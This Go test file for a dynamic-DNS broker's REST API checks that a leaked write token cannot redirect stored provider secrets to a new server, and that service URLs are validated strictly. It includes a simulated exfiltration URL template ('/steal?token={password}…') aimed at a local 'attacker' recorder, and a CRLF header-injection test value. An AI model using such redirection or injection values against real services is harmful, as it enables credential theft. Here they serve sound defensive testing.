package rest_test

// Defect 5 of issue 14: a stored secret never goes to a destination it was
// not entered for.

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ddnsbroker/ddnsbroker/api/app"
	"github.com/ddnsbroker/ddnsbroker/api/config"
	"github.com/ddnsbroker/ddnsbroker/api/rest"
)

// recorder is an HTTP server that keeps every request it gets, whole, and
// answers what a dyndns2 provider says on success.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newRecorder(t *testing.T) *recorder {
	r := &recorder{}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		body, _ := io.ReadAll(req.Body)
		var b strings.Builder
		fmt.Fprintf(&b, "%s %s\n", req.Method, req.URL.String())
		for k, vs := range req.Header {
			for _, v := range vs {
				fmt.Fprintf(&b, "%s: %s\n", k, v)
				// Basic credentials, decoded.
				if enc, ok := strings.CutPrefix(v, "Basic "); ok {
					dec, _ := base64.StdEncoding.DecodeString(enc)
					fmt.Fprintf(&b, "(decoded) %s\n", dec)
				}
			}
		}
		b.Write(body)
		r.mu.Lock()
		r.seen = append(r.seen, b.String())
		r.mu.Unlock()
		if strings.HasPrefix(req.URL.Path, "/client/v4") { // Cloudflare's API: a permanent refusal
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprint(w, `{"success": false, "errors": [{"code": 10000, "message": "Authentication error"}], "result": null}`)
			return
		}
		fmt.Fprint(w, "good 192.0.2.1")
	}))
	t.Cleanup(r.Close)
	return r
}

func (r *recorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.seen)
}

// runDispatcher delivers what the API queues until the test ends.
func runDispatcher(t *testing.T, h *harness) {
	h.runWorkers(t, h.app.Dispatcher.Run)
}

// quickRetries makes the dispatcher poll and retry within a test's time.
func quickRetries(cfg *config.Serve, opt *app.Options) {
	cfg.RetryBase, cfg.RetryMax = 100*time.Millisecond, 200*time.Millisecond
	opt.Poll = 50 * time.Millisecond
}

// waitIdle waits until no delivery is pending or running.
func waitIdle(t *testing.T, h *harness) {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		var n int
		if err := h.st.Pool.QueryRow(context.Background(),
			`SELECT count(*) FROM deliveries WHERE state IN ('pending', 'running') AND next_attempt_at < now() + interval '1 second'`).Scan(&n); err != nil {
			t.Fatal(err)
		}
		if n == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d deliveries still waiting", n)
		}
	}
}

// A write-scope token repoints services and moves records to a server it
// controls; the secrets stored for the real provider never reach it.
func TestStoredSecretsNeverReachANewDestination(t *testing.T) {
	h := newHarness(t, quickRetries)
	runDispatcher(t, h)
	provider, attacker := newRecorder(t), newRecorder(t)
	session, _ := h.login(adminName, adminPassword)
	token, _ := h.apiToken(session, "leaked", "write")
	secrets := []string{"dyndns2-record-secret", "moved-record-secret", "template-record-secret", "cloudflare-token-secret"}

	host := create[rest.HostCreated](h, session, "/hosts", map[string]any{"fqdn": "home.example.net", "ipv4": "203.0.113.7"})
	dyn := create[rest.Service](h, session, "/services", map[string]any{"name": "provider", "protocol": "dyndns2",
		"url": provider.URL + "/nic/update"})
	other := create[rest.Service](h, session, "/services", map[string]any{"name": "provider too", "protocol": "dyndns2",
		"url": provider.URL + "/nic/update"})
	tmpl := create[rest.Service](h, session, "/services", map[string]any{"name": "template", "protocol": "http",
		"settings": map[string]any{"url": provider.URL + "/update?host={fqdn}&token={password}&ip={ip}"}})
	cf := create[rest.Service](h, session, "/services", map[string]any{"name": "cloudflare", "protocol": "cloudflare",
		"settings": map[string]any{"zone_id": strings.Repeat("a", 32), "api_url": provider.URL + "/client/v4"}, "credential": secrets[3]})
	r1 := create[rest.Record](h, session, "/records", map[string]any{"host_id": host.Id, "service_id": dyn.Id, "username": "home", "password": secrets[0]})
	r2 := create[rest.Record](h, session, "/records", map[string]any{"host_id": host.Id, "service_id": other.Id,
		"fqdn": "nas.example.net", "username": "nas", "password": secrets[1]})
	r3 := create[rest.Record](h, session, "/records", map[string]any{"host_id": host.Id, "service_id": tmpl.Id,
		"fqdn": "tmpl.example.net", "password": secrets[2]})
	create[rest.Record](h, session, "/records", map[string]any{"host_id": host.Id, "service_id": cf.Id, "fqdn": "cf.example.net"})
	waitIdle(t, h)
	if got := strings.Join(provider.requests(), "\n"); !strings.Contains(got, secrets[0]) || !strings.Contains(got, secrets[2]) {
		t.Fatalf("the provider did not get the records' secrets:\n%s", got)
	}

	// The attack, with the leaked token.
	patch := func(path string, body map[string]any) response {
		return h.do(request{method: "PATCH", path: path, token: token, body: body})
	}
	// Refusals are checked without stopping the test: whatever got
	// through, the end shows whether a secret reached the attacker.
	refused := func(r response, what string, fields ...string) {
		t.Helper()
		if r.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d, want 422: %s", what, r.status, r.body)
		} else if got := fieldsOf(r.problem(t)); !slices.Equal(got, fields) {
			t.Errorf("%s: fields %v, want %v", what, got, fields)
		}
	}
	patch(fmt.Sprintf("/services/%d", dyn.Id), map[string]any{"url": attacker.URL + "/nic/update"}).expect(t, 200)
	refused(patch(fmt.Sprintf("/services/%d", cf.Id), map[string]any{"settings": map[string]any{"zone_id": strings.Repeat("a", 32),
		"api_url": attacker.URL + "/client/v4"}}), "cloudflare destination change without the token", "settings.api_url", "credential")
	patch(fmt.Sprintf("/services/%d", tmpl.Id), map[string]any{"settings": map[string]any{
		"url": attacker.URL + "/steal?token={password}&user={username}&ip={ip}"}}).expect(t, 200)
	refused(patch(fmt.Sprintf("/records/%d", r2.Id), map[string]any{"service_id": dyn.Id}),
		"moving a record with a password without it", "password")
	// A host name templated into the URL would let the record's name choose.
	refused(patch(fmt.Sprintf("/services/%d", other.Id), map[string]any{"settings": map[string]any{"url": "http://{fqdn}/x"}}),
		"a templated host", "settings.url")

	for _, r := range []rest.Record{r1, r3} {
		got := get[rest.Record](h, session, fmt.Sprintf("/records/%d", r.Id))
		if got.PasswordSet || !got.NeedsCredentials || !hasWarning(got, rest.NeedsCredentials) {
			t.Errorf("record %s after its service moved: password_set %v, needs_credentials %v, warnings %+v", got.Fqdn,
				got.PasswordSet, got.NeedsCredentials, got.Warnings)
		}
	}
	if got := get[rest.Record](h, session, fmt.Sprintf("/records/%d", r2.Id)); !got.PasswordSet || got.NeedsCredentials {
		t.Errorf("the record that was not moved lost its password: %+v", got)
	}
	// Everything is sent again: a router update and resyncs.
	if status, body, _ := h.updateFrom("127.0.0.1", host.Fqdn, host.Secret, "203.0.113.8"); status != 200 {
		t.Fatalf("router update: %d %q", status, body)
	}
	for _, r := range []rest.Record{r1, r2, r3} {
		h.do(request{method: "POST", path: fmt.Sprintf("/records/%d/resync", r.Id), token: token}).expect(t, 200)
	}
	waitIdle(t, h)
	got := attacker.requests()
	if len(got) == 0 {
		t.Fatal("the attacker's server got nothing: the test proves nothing")
	}
	for _, req := range got {
		for _, secret := range secrets {
			if strings.Contains(req, secret) {
				t.Errorf("a stored secret reached the new destination:\n%s", req)
			}
		}
	}
	// The admin gives the password again: it goes where it is now meant to.
	patch(fmt.Sprintf("/records/%d", r1.Id), map[string]any{"password": "entered-for-the-new-url"}).expect(t, 200)
	if r := get[rest.Record](h, session, fmt.Sprintf("/records/%d", r1.Id)); !r.PasswordSet || r.NeedsCredentials || hasWarning(r, rest.NeedsCredentials) {
		t.Errorf("record after its password was given again %+v", r)
	}
}

// The admin's password confirms a destination change: the records keep
// their passwords. A wrong one changes nothing.
func TestDestinationChangeConfirmedByPasswordKeepsThem(t *testing.T) {
	h := newHarness(t)
	session, _ := h.login(adminName, adminPassword)
	token, _ := h.apiToken(session, "script", "write")
	host := create[rest.HostCreated](h, session, "/hosts", map[string]any{"fqdn": "home.example.net"})
	svc := create[rest.Service](h, session, "/services", map[string]any{"name": "he", "protocol": "dyndns2",
		"url": "https://dyn.dns.he.net/nic/update"})
	rec := create[rest.Record](h, session, "/records", map[string]any{"host_id": host.Id, "service_id": svc.Id, "password": "k"})
	path := fmt.Sprintf("/services/%d", svc.Id)
	h.do(request{method: "PATCH", path: path, token: token,
		body: map[string]any{"url": "https://new.example/nic/update", "current_password": "not it"}}).expect(t, http.StatusForbidden)
	if got := get[rest.Service](h, session, path); got.Url != "https://dyn.dns.he.net/nic/update" {
		t.Fatalf("a refused change was stored: %+v", got)
	}
	h.do(request{method: "PATCH", path: path, token: token,
		body: map[string]any{"url": "https://new.example/nic/update", "current_password": adminPassword}}).expect(t, http.StatusOK)
	if got := get[rest.Record](h, session, fmt.Sprintf("/records/%d", rec.Id)); !got.PasswordSet || got.NeedsCredentials {
		t.Errorf("confirmed change: record %+v", got)
	}
	// The same URL spelled differently is the same destination.
	h.do(request{method: "PATCH", path: path, token: token, body: map[string]any{"url": "HTTPS://NEW.example:443/other/path"}}).
		expect(t, http.StatusOK)
	if got := get[rest.Record](h, session, fmt.Sprintf("/records/%d", rec.Id)); !got.PasswordSet {
		t.Error("a change of path only removed the password")
	}
	ev := get[rest.EventList](h, session, "/events?kind=service.updated")
	if len(ev.Items) != 2 || !strings.Contains(ev.Items[1].Message, "kept") {
		t.Errorf("events %+v", ev.Items)
	}
}

// Defect 8: service URLs are parsed strictly, and the error names the field.
func TestServiceURLsAreParsedStrictly(t *testing.T) {
	h := newHarness(t)
	session, _ := h.login(adminName, adminPassword)
	bad := map[string]string{
		"space in the path":     "https://dyn.example/nic/up date",
		"space in the query":    "https://dyn.example/nic/update?a=b c",
		"tab":                   "https://dyn.example/\tnic",
		"line break":            "https://dyn.example/nic\r\nX-Injected: 1",
		"control character":     "https://dyn.example/\x7f",
		"no-break space":        "https://dyn.example/\u00a0",
		"user info":             "https://user:pw@dyn.example/",
		"no host":               "https:///nic/update",
		"not http":              "ftp://dyn.example/",
		"relative":              "/nic/update",
		"opaque":                "https:dyn.example",
		"port out of range":     "https://dyn.example:70000/",
		"host with a character": "https://dyn$example/",
		"fragment":              "https://dyn.example/#x",
	}
	n := 0
	for name, u := range bad {
		t.Run(name, func(t *testing.T) {
			n++
			for _, c := range []struct {
				body  map[string]any
				field string
			}{
				{map[string]any{"name": fmt.Sprint("a", n), "protocol": "dyndns2", "url": u}, "url"},
				{map[string]any{"name": fmt.Sprint("b", n), "protocol": "dyndns2", "settings": map[string]any{"url": u}}, "settings.url"},
				{map[string]any{"name": fmt.Sprint("c", n), "protocol": "http", "settings": map[string]any{"url": u}}, "settings.url"},
				{map[string]any{"name": fmt.Sprint("d", n), "protocol": "cloudflare", "settings": map[string]any{"api_url": u}, "credential": "tok"}, "settings.api_url"},
			} {
				r := h.do(request{method: "POST", path: "/services", token: session, body: c.body})
				if r.status != http.StatusUnprocessableEntity {
					t.Errorf("%v: %d, want 422: %s", c.body, r.status, r.body)
					continue
				}
				if fields := fieldsOf(r.problem(t)); !slices.Contains(fields, c.field) {
					t.Errorf("%v: fields %v, want %s", c.body, fields, c.field)
				}
				if strings.Contains(string(r.body), "pw@") {
					t.Errorf("the error quotes the URL: %s", r.body)
				}
			}
			r := h.do(request{method: "POST", path: "/webhooks", token: session, body: map[string]any{"name": fmt.Sprint("w", n), "url": u}})
			if r.status != http.StatusUnprocessableEntity || !slices.Contains(fieldsOf(r.problem(t)), "url") {
				t.Errorf("webhook: %d %s", r.status, r.body)
			}
		})
	}
	// Good ones still pass.
	for i, u := range []string{"https://dyn.example/nic/update?system=dyndns&x=%20y", "http://[2001:db8::1]:8080/u", "http://192.0.2.1/u"} {
		create[rest.Service](h, session, "/services", map[string]any{"name": fmt.Sprint("ok", i), "protocol": "dyndns2", "url": u})
	}
}
